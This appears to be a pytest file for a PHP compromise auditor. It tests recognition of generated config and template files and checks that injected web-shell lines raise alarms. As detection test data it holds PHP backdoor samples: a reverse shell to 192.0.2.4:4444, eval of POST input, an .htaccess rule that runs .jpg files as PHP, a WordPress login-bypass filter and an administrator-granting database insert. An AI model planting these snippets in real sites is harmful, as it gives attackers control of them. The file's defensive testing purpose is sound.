"""Files that applications make by themselves are known by their shape, and only while all of them has it."""

from __future__ import annotations

import pytest

from auditor.compromise import classifier, confidence
from auditor.compromise.known_good.generated_files import detect_generator_of_file
from auditor.compromise.rules import engine
from benchmarks import footholds

SETTINGS = b"""<?php

/**
 * NUKEVIET Content Management System
 */

if (!defined('NV_MAINFILE')) {
    exit('Stop!!!');
}

$config_theme['x'] = array('a' => 1, 'b' => 'c', 'd' => array(true, null, -1));
$global_config['my_domains'] = 'portal.example';
define('NV_X', 'y');
"""
SMARTY = b"""<?php
/* Smarty version 4.5.5, created on 2025-01-01 10:00:00
  from '/var/www/x/templates/page.tpl' */

if ($_smarty_tpl->_decodeProperties($_smarty_tpl, array (
  'version' => '4.5.5',
  'unifunc' => 'content_67aa',
), false)) {
function content_67aa (Smarty_Internal_Template $_smarty_tpl) {
?><h1><?php echo htmlspecialchars($_smarty_tpl->tpl_vars['title']->value, ENT_QUOTES, 'UTF-8');?>
</h1><?php echo smarty_modifier_truncate($_smarty_tpl->tpl_vars['a']->value,20);
}
}
"""
TWIG = b"""<?php

use Twig\\Template;

/* index.twig */
class __TwigTemplate_0123456789abcdef0123456789abcdef extends Template
{
    protected function doDisplay(array $context, array $blocks = [])
    {
        echo twig_escape_filter($this->env, ($context["title"] ?? null), "html", null, true);
    }
}
"""
ADDED = (
    "$x();",
    "§E§($a);",
    "$x = §GET§['a'];",
    "include 'x';",
    "$a = `id`;",
    "§S§('id');",
    "$$a = 1;",
    "$a->$b();",
    "new $c;",
    "r¦equire_once '/tmp/x.php';",
    "array_map('trim', $x);",
)


@pytest.mark.parametrize(
    "content, path, made_by",
    [
        (SETTINGS, "data/config/config_global.php", "settings"),
        (SETTINGS, "includes/config_global.php", None),
        (SMARTY, "data/cache/templates_c/a.page.tpl.php", "smarty"),
        (SMARTY, "uploads/a.php", None),
        (TWIG, "var/cache/twig/0a/a.php", "twig"),
    ],
)
def test_a_file_that_an_application_makes_is_known_where_it_makes_them(
    content: bytes, path: str, made_by: str | None
) -> None:
    assert detect_generator_of_file(content, path) == made_by


@pytest.mark.parametrize("added", ADDED)
@pytest.mark.parametrize("content", [SETTINGS, SMARTY, TWIG], ids=["settings", "smarty", "twig"])
def test_whatever_else_stands_in_it_makes_it_a_file_as_any_other(content: bytes, added: str) -> None:
    assert (
        detect_generator_of_file(content + b"\n" + footholds.whole(added).encode(), "data/cache/config/a.php") is None
    )


def test_such_a_file_is_told_of_by_no_judge_and_a_shell_that_poses_as_one_is() -> None:
    rules = engine.load_yara_rules()
    known = classifier.judge_content(SMARTY, "templates_c/a.php", rules)
    assert (known.generated, confidence.weigh_judgement(known, is_upload_folder=True, is_unexplained=True)) == (
        "smarty",
        None,
    )
    posing = classifier.judge_content(
        SMARTY + footholds.whole("<?php @§E§(§POST§['x']);").encode(), "templates_c/a.php", rules
    )
    found = confidence.weigh_judgement(posing, is_upload_folder=True)
    assert posing.generated == "" and found is not None and found.certainty == "exact"


HONEST_REST = b"\n".join(
    b"function part%d($a) { return trim($a) . strlen($a) . number_format(%d); }" % (n, n) for n in range(400)
)
"""What a shell hides in: text rules for small files say nothing there."""


@pytest.mark.parametrize(
    "shell",
    [
        "move_uploaded_¦file($_¦FILES['x']['tmp_name'], $_¦FILES['x']['name']);",
        "if (strpos($_SERVER['HTTP_¦REFERER'], 'google.')) { header('Location: https://c.example/?r=' . time()); }",
        "stream_wrapper_register('cod', 'S'); include 'cod://' . $_POST['z'];",
        "file_put_contents('.htaccess', 'AddType application/x-httpd-php .jpg');",
        "$s = fsockopen('192.0.2.4', 4444); proc_¦open(['/bin/sh', '-i'], [$s, $s, $s], $p);",
    ],
)
def test_what_no_honest_file_does_is_an_alarm_without_a_second_judge(shell: str) -> None:
    content = b"<?php\n" + shell.replace("¦", "").encode() + b"\n" + HONEST_REST
    verdict = confidence.weigh_judgement(classifier.judge_content(content, "a.php", engine.load_yara_rules(None)))
    assert verdict is not None and verdict.certainty in ("strong", "exact")
    assert len(content) > 20_000


@pytest.mark.parametrize(
    "shell",
    [
        "add_filter('authen¦ticate', function ($u, $l, $p) { if (sha1($p) === '32f0c205b413db6cd26390e6f97a541e') "
        "{ return new WP_¦User(1); } return $u; });",
        "$wpdb->ins¦ert($m, ['meta_key' => 'wp_capabilities', 'meta_value' => 'a:1:{s:13:\"administrator\";b:1;}']);",
    ],
)
def test_what_only_text_shows_of_who_lets_himself_in_is_an_alarm(shell: str) -> None:
    content = b"<?php\n" + shell.replace("¦", "").encode()
    verdict = confidence.weigh_judgement(classifier.judge_content(content, "a.php", engine.load_yara_rules(None)))
    assert verdict is not None and verdict.certainty == "strong"


def test_what_installers_do_stays_a_sign_without_a_second_judge() -> None:
    code = "$from = 'https://192.0.2.7/a'; $to = 'setup.php'; co¦py($from, $to);".replace("¦", "")
    content = b"<?php\n" + code.encode() + b"\n" + HONEST_REST
    verdict = confidence.weigh_judgement(classifier.judge_content(content, "a.php", engine.load_yara_rules(None)))
    assert verdict is not None and verdict.certainty == "weak"
